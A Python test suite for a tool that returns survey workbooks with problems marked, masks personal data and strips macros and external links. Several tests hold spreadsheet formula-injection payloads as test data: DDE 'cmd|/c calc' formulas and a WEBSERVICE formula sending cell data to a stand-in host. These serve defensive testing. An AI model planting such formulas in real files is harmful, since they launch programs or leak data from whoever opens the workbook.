"""A returned copy is the enterprise's own workbook with every problem marked, and nothing else."""

import io
import re
import shutil
import subprocess
import zipfile
from datetime import date

import openpyxl
import pytest
import xlwt
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from python_calamine import CalamineWorkbook

from listlab.law import load_pack
from listlab.model.language import Text
from listlab.model.problem import Problem
from listlab.survey.answers import read_answers
from listlab.survey.columns import PROBLEM_LIST, REVISION_NAME
from listlab.survey.findings import Findings
from listlab.survey.open import open_workbook
from listlab.survey.returned import mark_copy
from listlab.survey.returned_marks import COLOURS
from listlab.survey.template import build_template
from listlab.survey.voices import STAFF_ONLY, for_enterprise

AS_OF = date(2026, 3, 31)
FLOWS = "出境场景"
OFFICE = shutil.which("soffice")
MESSAGE = Text("请填一个数", "give a number")
ERROR = Problem("flow.unknown", "error", MESSAGE, "甲.xlsx", "数据项", "A2", "77")
WARNING = Problem("volume.unreadable", "warning", MESSAGE, "甲.xlsx", FLOWS, "L2", "很多")
IDENTITY, MOBILE, EMAIL = "11010519491231002X", "13800138000", "zhang.san@example.com"


@pytest.fixture
def content(write_survey):
    return write_survey().read_bytes()


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def changed(content, change):
    """Workbook after a change to it."""
    book = opened(content)
    change(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def written(content):
    """All that a file holds, to look for what must not be in it."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "\n".join(
            archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
        )


def values(content):
    """What the cells of a workbook show, sheet by sheet, without the list of problems."""
    with CalamineWorkbook.from_filelike(io.BytesIO(content)) as book:
        names = [name for name in book.sheet_names if name != PROBLEM_LIST]
        return {name: book.get_sheet_by_name(name).to_python() for name in names}


def listed(content):
    """Rows of the list of problems."""
    rows = [row[:6] for row in opened(content)[PROBLEM_LIST].iter_rows(values_only=True)]
    top = next(index for index, row in enumerate(rows) if row[0] in ("序号", "No."))
    return rows[top + 1 :]


def test_problems_are_marked_in_their_cells(content):
    """Each cell named by a problem is coloured by severity and says what is wrong."""
    copy = opened(mark_copy(content, ".xlsx", [WARNING, ERROR], as_of=AS_OF))
    cells = copy["数据项"]["A2"], copy[FLOWS]["L2"]

    assert [COLOURS["must"], COLOURS["check"]] == [cell.fill.fgColor.rgb for cell in cells]
    assert "【核对】\n[必须改] 请填一个数" == cells[0].comment.text
    assert "【核对】\n[请核对] 请填一个数" == cells[1].comment.text
    assert 2 == sum(bool(c.comment) for sheet in copy for row in sheet.iter_rows() for c in row)


def test_the_list_comes_first_with_links(content):
    """The first sheet lists all problems, errors before warnings, and leads to each cell."""
    raw = mark_copy(content, ".xlsx", [WARNING, ERROR], as_of=AS_OF)
    copy = opened(raw)
    links = [cell.hyperlink.location for cell in copy[PROBLEM_LIST]["D"] if cell.hyperlink]

    assert PROBLEM_LIST == copy.sheetnames[0] == copy.active.title
    assert ["'数据项'!A2", "'出境场景'!L2"] == links
    assert [
        (1, "必须改", "数据项", "A2", "1", "请填一个数"),
        (2, "请核对", FLOWS, "L2", "100", "请填一个数"),
    ] == listed(raw)
    assert [True] + [False] * 6 == [s.sheet_view.tabSelected for s in copy]


def test_answers_stay_as_they_were(content):
    """A copy holds the same answers, and is read like the original."""
    industry = load_pack("beijing").industry("pharma")
    raw = mark_copy(content, ".xlsx", [WARNING, ERROR], as_of=AS_OF)
    before, after = (
        read_answers(open_workbook(each), industry, Findings("甲.xlsx")).tables
        for each in (content, raw)
    )

    assert values(content) == values(raw)
    assert before == after


def test_same_arguments_give_same_bytes(content):
    """A copy depends on its arguments alone; the clock is in none of its parts."""
    raw = mark_copy(content, ".xlsx", [WARNING, ERROR], as_of=AS_OF)
    stamps = re.findall(r"<dcterms:\w+[^>]*>([^<]*)<", written(raw))

    assert raw == mark_copy(content, ".xlsx", [WARNING, ERROR], as_of=AS_OF)
    assert {"2026-03-31T00:00:00Z"} == set(stamps)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert {(1980, 1, 1, 0, 0, 0)} == {entry.date_time for entry in archive.infolist()}


def test_marks_are_replaced_and_do_not_pile_up(content):
    """A copy marked again is as if it were marked once; looks and own comments come back."""

    def decorate(book):
        book[FLOWS]["L2"].fill = PatternFill("solid", fgColor="FF00FF00")
        book[FLOWS]["L2"].comment = Comment("我方说明", "某某")

    own = changed(content, decorate)
    first = mark_copy(own, ".xlsx", [WARNING, ERROR], as_of=AS_OF)
    again = mark_copy(first, ".xlsx", [WARNING, ERROR], as_of=AS_OF)
    mended = opened(mark_copy(again, ".xlsx", [], as_of=AS_OF))

    assert first == again
    assert "我方说明\n【核对】\n[请核对] 请填一个数" == opened(first)[FLOWS]["L2"].comment.text
    assert "我方说明" == mended[FLOWS]["L2"].comment.text
    assert "FF00FF00" == mended[FLOWS]["L2"].fill.fgColor.rgb
    assert (None, None) == (mended["数据项"]["A2"].comment, mended["数据项"]["A2"].fill.fill_type)
    assert 1 == mended.sheetnames.count(PROBLEM_LIST)


def test_personal_data_are_nowhere_in_a_copy(content):
    """Numbers and names of persons are masked in cells, comments, properties, list and quotes."""

    def spill(book):
        book[FLOWS]["D2"] = f"联系人：张三丰，电话 {MOBILE}"
        book[FLOWS]["S2"] = IDENTITY
        book[FLOWS]["T2"] = 13800138000
        book["意见建议"]["C2"].comment = Comment(f"请回复 {EMAIL}", "张三丰")
        book.properties.creator = book.properties.lastModifiedBy = "张三丰"
        book.properties.description = EMAIL

    quoting = Problem("x", "warning", Text(f"读作 {MOBILE}", MOBILE), "甲", FLOWS, "D2", IDENTITY)
    said = written(mark_copy(changed(content, spill), ".xlsx", [quoting], as_of=AS_OF))

    assert [] == [each for each in (IDENTITY, MOBILE, EMAIL, "张三丰") if each in said]
    assert "联系人：***" in said


def test_problems_for_staff_are_left_out(content):
    """What names another enterprise is not told to this one."""
    secret = [Problem(code, "warning", MESSAGE, "甲", FLOWS, "E2") for code in sorted(STAFF_ONLY)]

    assert [] == listed(mark_copy(content, ".xlsx", secret, as_of=AS_OF))


def test_formulas_stay_and_text_stays_text(content):
    """A formula keeps its last value; text that looks like a formula never becomes one."""

    def write(book):
        book[FLOWS]["M2"] = "=100*500"
        book[FLOWS]["D2"] = "=1+1"
        book[FLOWS]["D2"].data_type = "s"

    own = with_value(changed(content, write), "M2", "50000")
    problem = Problem("x", "warning", Text("=cmd|'/c calc'!A1", "@x"), "甲", FLOWS, "M2", "+1+1")
    raw = mark_copy(own, ".xlsx", [problem], as_of=AS_OF)
    copy = opened(raw)

    assert ("f", "=100*500") == (copy[FLOWS]["M2"].data_type, copy[FLOWS]["M2"].value)
    assert 50000 == values(raw)[FLOWS][1][12]
    assert ("s", "=1+1") == (copy[FLOWS]["D2"].data_type, copy[FLOWS]["D2"].value)
    assert "f" not in {c.data_type for row in copy[PROBLEM_LIST].iter_rows() for c in row}
    assert ("50000", "=cmd|'/c calc'!A1") == listed(raw)[0][4:]


def with_value(content, cell, value):
    """Workbook whose formula in a cell holds its value, as spreadsheets store it."""
    pattern = rf'(<c r="{cell}"[^>]*><f>[^<]*</f>)<v ?/?>(?:</v>)?'.encode()

    def store(xml):
        return re.sub(pattern, rb"\g<1><v>" + value.encode() + b"</v>", xml)

    return with_part(content, "xl/worksheets/sheet3.xml", store)


def test_answers_under_merged_cells_are_kept(content):
    """What lies hidden under a merged cell is in the copy, for the reader reads it."""

    def merge(xml):
        return xml.replace(
            b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="C2:D2"/></mergeCells>'
        )

    raw = mark_copy(with_part(content, "xl/worksheets/sheet3.xml", merge), ".xlsx", [], as_of=AS_OF)

    assert values(content) == values(raw)


@pytest.mark.parametrize(
    "tail",
    [
        b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>',
    ],
)
def test_spans_without_end_stop_nothing(content, tail):
    """A merged cell or link over the whole sheet is dropped, not followed cell by cell."""

    def span(xml):
        return xml.replace(b"</sheetData>", b"</sheetData>" + tail)

    copy = mark_copy(with_part(content, "xl/worksheets/sheet3.xml", span), ".xlsx", [ERROR])

    assert 1 == len(listed(copy))


def with_part(content, part, change):
    """Workbook with one part of its package changed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == part else old.read(name))
    return stream.getvalue()


def test_links_to_other_files_become_values(content):
    """A formula that points into another file is replaced by the value it showed."""

    def link(book):
        book[FLOWS]["M2"] = "=[1]Sheet1!A1"

    raw = mark_copy(with_value(changed(content, link), "M2", "42"), ".xlsx", [], as_of=AS_OF)

    assert 42 == opened(raw)[FLOWS]["M2"].value
    assert "externalLink" not in written(raw)


def test_a_blank_cell_marked_can_still_be_filled_in():
    """A mark on an empty cell of the template leaves it open for typing, as text."""
    pack = load_pack("beijing")
    form = build_template(pack, pack.industry("pharma"), as_of=AS_OF)
    problem = Problem("flow.no_number", "warning", MESSAGE, "甲.xlsx", FLOWS, "A9")
    cell = opened(mark_copy(form, ".xlsx", [problem], as_of=AS_OF))[FLOWS]["A9"]

    assert (False, "@", COLOURS["check"]) == (
        cell.protection.locked,
        cell.number_format,
        cell.fill.fgColor.rgb,
    )


def test_lists_to_choose_from_survive():
    """Drop-down lists, protection and the version of the template are still in the copy."""
    pack = load_pack("beijing")
    form = build_template(pack, pack.industry("pharma"), as_of=AS_OF)
    before, after = opened(form), opened(mark_copy(form, ".xlsx", [], as_of=AS_OF))
    for name in before.sheetnames:
        rules = [
            {(r.formula1, r.prompt, str(r.sqref)) for r in b[name].data_validations.dataValidation}
            for b in (before, after)
        ]
        assert rules[0] == rules[1]
        assert before[name].protection.sheet == after[name].protection.sheet
        assert before[name].sheet_state == after[name].sheet_state
    assert set(before.defined_names) == set(after.defined_names)


def test_macros_are_dropped_and_said(content):
    """A copy of an .xlsm carries no macro, and the list says so."""
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
    raw = mark_copy(stream.getvalue(), ".xlsm", [ERROR], as_of=AS_OF)

    assert "vbaProject" not in written(raw)
    assert "※ 宏已删除，从未运行" == opened(raw)[PROBLEM_LIST]["A4"].value


def test_old_workbooks_become_new_ones(content):
    """A copy of an .xls is an .xlsx with the same contents, marked alike."""
    book = xlwt.Workbook()
    for name, rows in values(content).items():
        sheet = book.add_sheet(name)
        for row, cells in enumerate(rows):
            for column, value in enumerate(cells):
                sheet.write(row, column, value)
    stream = io.BytesIO()
    book.save(stream)
    copy = opened(mark_copy(stream.getvalue(), ".xls", [ERROR], as_of=AS_OF))

    assert values(content)[FLOWS][1][:5] == [c.value for c in copy[FLOWS][2]][:5]
    assert COLOURS["must"] == copy["数据项"]["A2"].fill.fgColor.rgb
    assert ".xls" in copy[PROBLEM_LIST]["A4"].value


def test_csv_files_become_one_workbook(content):
    """A copy of csv files is one .xlsx; codes and figures stay text, formulas are none."""
    sheets = values(content)
    files = {
        f"{name}.csv": "\n".join(",".join(str(cell) for cell in row) for row in rows).encode(
            "gb18030"
        )
        for name, rows in sheets.items()
        if name != "填表说明"
    }
    files["意见建议.csv"] += "\n1,5万,=1+1,无".encode("gb18030")
    copy = opened(mark_copy(files, ".csv", [ERROR], as_of=AS_OF))

    assert {PROBLEM_LIST, *sheets} - {"填表说明"} == set(copy.sheetnames)
    assert ("91999999XXXX01011F", "s") == (
        copy["企业信息"]["B1"].value,
        copy["企业信息"]["B1"].data_type,
    )
    assert ("=1+1", "s") == (copy["意见建议"]["C3"].value, copy["意见建议"]["C3"].data_type)
    assert COLOURS["must"] == copy["数据项"]["A2"].fill.fgColor.rgb


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm", ".xls", ".csv", ".et", ".pdf", ""])
@pytest.mark.parametrize(
    "bad", [b"", b"%PDF-1.7 x", b"PK\x03\x04 cut", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]
)
def test_unreadable_files_get_the_reasons_alone(bad, suffix):
    """For a file that can't be opened the copy is the list of reasons."""
    reason = Problem("workbook.broken", "error", MESSAGE, "甲.xlsx")
    told = for_enterprise(reason).message.zh
    raw = mark_copy(bad, suffix, [reason], as_of=AS_OF)

    assert [PROBLEM_LIST] == opened(raw).sheetnames
    assert [(1, "必须改", "—", "—", "—", told)] == listed(raw)


def test_places_that_are_none_do_not_stop_a_copy(content):
    """A problem of a sheet or cell that is not there is listed without a link."""
    odd = [
        Problem("a", "warning", MESSAGE, "甲", "没有", "B2"),
        Problem("b", "warning", MESSAGE, "甲", FLOWS, "第三行"),
        Problem("c", "warning", MESSAGE, "甲", FLOWS, "C2:D3"),
    ]
    raw = mark_copy(content, ".xlsx", odd, as_of=AS_OF)
    links = [
        c.hyperlink.location
        for r in opened(raw)[PROBLEM_LIST].iter_rows()
        for c in r
        if c.hyperlink
    ]

    assert 3 == len(listed(raw))
    assert ["'出境场景'!A1", "'出境场景'!C2"] == links


def test_english_copies_speak_english(content):
    """With lang="en" list and comments are English, and still replaced by a Chinese copy."""
    raw = mark_copy(content, ".xlsx", [ERROR], lang="en", as_of=AS_OF)
    chinese = mark_copy(raw, ".xlsx", [ERROR], as_of=AS_OF)

    assert [(1, "must be mended", "数据项", "A2", "1", "give a number")] == listed(raw)
    assert "【Check】\n[must be mended] give a number" == opened(raw)["数据项"]["A2"].comment.text
    assert "【核对】\n[必须改] 请填一个数" == opened(chinese)["数据项"]["A2"].comment.text


@pytest.mark.skipif(not OFFICE, reason="LibreOffice is not installed")
def test_libreoffice_opens_a_copy(content, tmp_path):
    """LibreOffice reopens a copy with its marks, comments and list."""
    path = tmp_path / "copy.xlsx"
    path.write_bytes(mark_copy(content, ".xlsx", [WARNING, ERROR], as_of=AS_OF))
    command = [OFFICE, f"-env:UserInstallation=file://{tmp_path}/office", "--headless"]
    out = ["--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(path)]
    subprocess.run(command + out, check=True, capture_output=True, timeout=120)
    copy = opened((tmp_path / "out" / "copy.xlsx").read_bytes())

    assert PROBLEM_LIST == copy.sheetnames[0]
    assert COLOURS["must"] == copy["数据项"]["A2"].fill.fgColor.rgb
    assert "请填一个数" in copy["数据项"]["A2"].comment.text


def test_a_copy_knows_which_revision_it_is(content):
    """The number stands under a defined name and on the list, and a later copy replaces it."""
    first = mark_copy(content, ".xlsx", [ERROR], as_of=AS_OF, revision=1)
    second = opened(mark_copy(first, ".xlsx", [ERROR], as_of=AS_OF, revision=2))

    assert '"1"' == opened(first).defined_names[REVISION_NAME].value
    assert '"2"' == second.defined_names[REVISION_NAME].value
    assert any("修订 2" in str(row[0].value) for row in second[PROBLEM_LIST].iter_rows(max_col=1))


def test_the_list_shows_what_the_cell_says(content):
    """Own text of the cell on one line, masked and cut, whatever the reader made of it."""

    def write(book):
        book[FLOWS]["D2"] = f"漂亮国，电话 {MOBILE}"
        book[FLOWS]["E2"] = "长" * 90

    cells = ("D2", "E2")
    problems = [Problem("country.unknown", "warning", MESSAGE, "甲", FLOWS, cell) for cell in cells]
    shown = [row[4] for row in listed(mark_copy(changed(content, write), ".xlsx", problems))]

    assert ["漂亮国，电话 ***", "长" * 39 + "…"] == shown


def test_the_office_keeps_its_own_matters_and_notes(content):
    """Remarks and what concerns the frame are in no copy; the rest is said to the enterprise."""
    conflict = Problem(
        "workbook.conflict", "error", Text("与 surveys/乙.xlsx 不同", "x"), "甲.xlsx"
    )
    others = [
        Problem("frame.not_listed", "warning", Text("不在名录 data/frame.csv 中", "x"), "甲.xlsx"),
        Problem("volume.range", "warning", MESSAGE, "甲", FLOWS, "L2", level="note"),
    ]
    raw = mark_copy(content, ".xlsx", [conflict, *others], as_of=AS_OF)
    told = listed(raw)

    assert 1 == len(told)
    assert "乙.xlsx" not in told[0][5] and "请" in told[0][5]
    assert opened(raw)[FLOWS]["L2"].comment is None


@pytest.mark.parametrize(
    "formula", ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example/?"&A1)', "='cmd'|'/c x'!A1"]
)
def test_formulas_that_reach_out_become_values(content, formula):
    """What would start a program or ask the network is in no copy, and the list says so."""
    own = changed(content, lambda book: book[FLOWS].__setitem__("D2", formula))
    raw = mark_copy(own, ".xlsx", [WARNING], as_of=AS_OF)
    heads = [str(row[0].value) for row in opened(raw)[PROBLEM_LIST].iter_rows(max_col=1)]

    assert "f" != opened(raw)[FLOWS]["D2"].data_type
    assert any("从未运行" in head for head in heads)


def test_text_with_a_bar_stays_a_formula(content):
    """A stroke inside quotes starts nothing."""
    own = changed(content, lambda book: book[FLOWS].__setitem__("D2", '="a|b"'))

    assert "f" == opened(mark_copy(own, ".xlsx", [WARNING]))[FLOWS]["D2"].data_type


def test_a_far_cell_in_a_hidden_sheet_stops_no_copy(content):
    """Sheets that hold no answers are never unfolded to their corners."""

    def write(book):
        sheet = book.create_sheet("选项")
        sheet["XFD1048576"] = "x"
        sheet.sheet_state = "hidden"

    raw = mark_copy(changed(content, write), ".xlsx", [WARNING], as_of=AS_OF)

    assert "100" == listed(raw)[0][4]
    assert opened(raw)[FLOWS]["L2"].comment is not None


def test_masses_of_cells_in_a_hidden_sheet_give_the_list_alone(content, monkeypatch):
    """More cells than can be marked one by one, wherever they are, are not loaded at all."""
    monkeypatch.setattr("listlab.survey.returned_package.MOST_CELLS", 40)

    assert [PROBLEM_LIST] == opened(mark_copy(content, ".xlsx", [WARNING])).sheetnames
